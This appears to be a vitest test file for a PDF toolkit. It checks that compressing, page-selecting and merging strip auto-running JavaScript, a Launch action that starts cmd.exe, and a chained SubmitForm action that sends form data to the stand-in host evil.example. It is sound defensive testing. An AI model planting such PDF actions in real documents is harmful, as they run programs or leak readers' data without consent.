import { describe, expect, it } from 'vitest';
import { makeDocument } from '../../../../tests/fixtures/pdf-documents.ts';
import { readPdf } from '../../../../tests/fixtures/pdf-reading.ts';
import type { Result } from '../../../shared/result.ts';
import type { EngineOutput } from '../../engine-task.ts';
import { compressPdf } from '../compress.ts';
import { mergePdfs } from '../merge.ts';
import { modifyPdf } from '../modify.ts';

const context = { onProgress: () => undefined };
const tools: Record<string, (bytes: Uint8Array) => Promise<Result<EngineOutput>>> = {
  compress: (bytes) => compressPdf({ files: [bytes], options: { level: 'MEDIUM' } }, context),
  modify: (bytes) =>
    modifyPdf({ files: [bytes], options: { modifyType: 'SELECT', pages: '1', compatibilityMode: false } }, context),
  merge: (bytes) => mergePdfs({ files: [bytes, bytes], options: { passwords: {}, compatibilityMode: false } }, context),
};

/** Object streams hide text; saving through MuPDF again without them shows it. */
async function unpacked(bytes: Uint8Array): Promise<string> {
  const mupdf = await import('mupdf');
  const document = mupdf.PDFDocument.openDocument(bytes, 'application/pdf') as InstanceType<typeof mupdf.PDFDocument>;
  return Buffer.from(document.saveToBuffer({ objstms: 'no', decompress: 'yes' }).asUint8Array()).toString('latin1');
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

for (const [name, run] of Object.entries(tools)) {
  describe(`what runs by itself, after ${name}`, () => {
    const cases = {
      'a script on opening': { catalog: `/OpenAction ${script}`, pages: [{ text: 'a' }] },
      'a document script': { catalog: `/Names << /JavaScript << /Names [(x) ${script}] >> >>`, pages: [{ text: 'a' }] },
      'a script when the document closes': { catalog: `/AA << /WC ${script} >>`, pages: [{ text: 'a' }] },
      'a script when the page opens': { pages: [{ text: 'a', extra: `/AA << /O ${script} >>` }] },
      'a program start behind a link': {
        pages: [
          { text: 'a', extra: '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]' },
        ],
      },
      'form data sent out, hidden in a chain': {
        pages: [
          {
            text: 'a',
            extra:
              '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) /Next << /S /SubmitForm /F (https://evil.example/) >> >> >>]',
          },
        ],
      },
    };
    for (const [what, spec] of Object.entries(cases)) {
      it(`${what} is gone and reported`, async () => {
        const result = await run(makeDocument(spec));
        if (!result.ok) throw new Error(result.failure.code);
        expect(await unpacked(result.value.bytes)).not.toMatch(/\/(JavaScript|JS|Launch|SubmitForm)\b/);
        expect(result.value.report.notes.map(({ code }) => code)).toContain('active_content_removed');
      });
    }

    it('plain jumps, clicked links, field scripts and attachments stay', async () => {
      const format = '<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>';
      const input = makeDocument({
        pages: [
          {
            text: 'a',
            uri: 'https://example.org/',
          },
        ],
        attachments: { 'invoice.xml': '<a/>' },
        catalog: `/AcroForm << /Fields [<< /FT /Tx /T (sum) /AA << /F ${format} >> >>] >>`,
      });
      const result = await run(input);
      if (!result.ok) throw new Error(result.failure.code);
      const read = await readPdf(result.value.bytes);
      expect(read.links[0]?.[0]?.url).toBe('https://example.org/');
      expect(Object.keys(read.attachments)).toContain('invoice.xml');
      expect(await unpacked(result.value.bytes)).toContain('AFNumber_Format');
      expect(result.value.report.notes.map(({ code }) => code)).not.toContain('active_content_removed');
    });
  });
}
